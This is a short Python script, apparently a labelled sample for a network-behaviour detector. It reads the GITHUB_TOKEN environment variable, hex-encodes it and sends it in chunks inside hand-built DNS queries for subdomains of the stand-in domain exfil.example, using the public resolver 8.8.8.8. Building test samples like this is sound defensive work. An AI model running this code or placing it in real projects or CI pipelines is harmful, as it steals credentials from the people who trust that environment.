# expect: network; hand-built DNS queries sent over UDP to a public resolver, carrying data in the qname
import os
import random
import socket
import struct


def query(name):
    header = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + qname + struct.pack(">HH", 16, 1)


payload = os.environ.get("GITHUB_TOKEN", "none").encode().hex()
resolver = ("8.8.8.8", 53)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(0, len(payload), 56):
    s.sendto(query(payload[i:i + 56] + ".t.exfil.example"), resolver)
